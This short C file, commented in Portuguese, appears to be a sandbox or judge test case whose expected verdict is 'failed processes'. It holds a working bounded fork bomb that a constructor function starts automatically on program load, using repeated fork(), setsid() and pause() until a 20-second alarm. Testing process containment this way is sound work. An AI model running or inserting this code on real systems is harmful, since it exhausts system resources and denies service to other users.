/* A mesma bomba, em C: cada um faz fork() sem parar, até a décima geração ou 20 s. */
// veredito: failed processes
#include <unistd.h>

__attribute__((constructor)) static void attack(void) {
    alarm(20);
    for (int generation = 0; generation < 10;)
        if (fork() == 0) {
            setsid();
            alarm(20);
            generation++;
        } else if (fork() == 0) {
            generation++;
        } else {
            break;
        }
    for (;;) pause();
}
